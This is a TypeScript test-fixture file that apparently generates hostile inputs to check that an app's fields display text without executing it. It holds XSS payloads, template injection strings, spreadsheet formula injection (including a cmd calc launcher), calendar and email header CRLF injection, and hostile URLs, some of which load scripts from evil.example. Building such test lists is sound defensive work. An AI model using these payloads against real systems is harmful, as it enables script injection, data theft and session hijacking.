import { oddTexts } from './attack-texts.ts'

/** Ways to break out of the place where a text appears. */
const ways = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</option></select>',
  '-->',
  ']]>',
  '</noscript>',
  '`>',
]

/** Texts that would run, load or link if they were taken for markup. */
const markup = [
  '<script>alert(1)</script>',
  '<ScRiPt src=data:,alert(1)></ScRiPt>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;">',
  '<iframe src=javascript:alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<a href=javascript:alert(1) id=x autofocus tabindex=1 onfocus=alert(1)>go</a>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import"//evil.example/x.css";</style>',
  '<marquee onstart=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<x onclick=alert(1) onmouseover=alert(1) onanimationstart=alert(1) style="animation:x 1s">',
]

/** Texts that break out of an attribute, a script, a template or a link without a bracket. */
const bare = [
  '" onmouseover=alert(1) x="',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus='alert(1)",
  '` onfocus=alert(1) autofocus x=`',
  'x onerror=alert(1)',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  "';alert(1);//",
  '";alert(1);//',
  '\\";alert(1);//',
  '</script><!--',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<\u0000script>alert(1)</script>',
  '<form id=document><input name=cookie>',
  '<a id=location href=//evil.example>',
  'expression(alert(1))',
  'x}body{background:url(//evil.example/x)}',
]

/** Texts that a spreadsheet would calculate, or that would add a line to a calendar, an email or a header. */
const forPrograms = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://evil.example","go")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\uff1d1+1',
  '"=1+1',
  '",=1+1,"',
  'a\r\n=1+1',
  'x\r\nATTACH:http://evil.example/x',
  'x\nBEGIN:VALARM\nACTION:DISPLAY\nTRIGGER:-PT1M\nEND:VALARM',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil',
  'x\\nURL:http://evil.example',
  'x;VALUE=URI:http://evil.example',
  'x\u2028ATTACH:http://evil.example',
  'x\u0085ATTACH:http://evil.example',
  'x\r\nBcc: evil@evil.example',
  'x\r\nSet-Cookie: evil=1',
]

/** Every text that must appear in every field, displayed and never executed. */
export const scriptTexts = [
  ...ways.flatMap((way) => markup.map((each) => way + each)),
  ...bare,
  ...forPrograms,
]

/** Other texts known to break things; short enough to appear in a row of fields. */
export const oddities = oddTexts.filter((text) => text.trim() !== '' && text.length < 300)

/** Addresses that VOMO might hold for a page of its own. */
export const hostileUrls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://vomo.example',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example',
  'https://evil.example/" onmouseover="alert(1)',
  "https://evil.example/' onfocus='alert(1)",
  'https://evil.example/<script>alert(1)</script>',
  'https://evil.example/\r\nATTACH:http://evil.example',
]
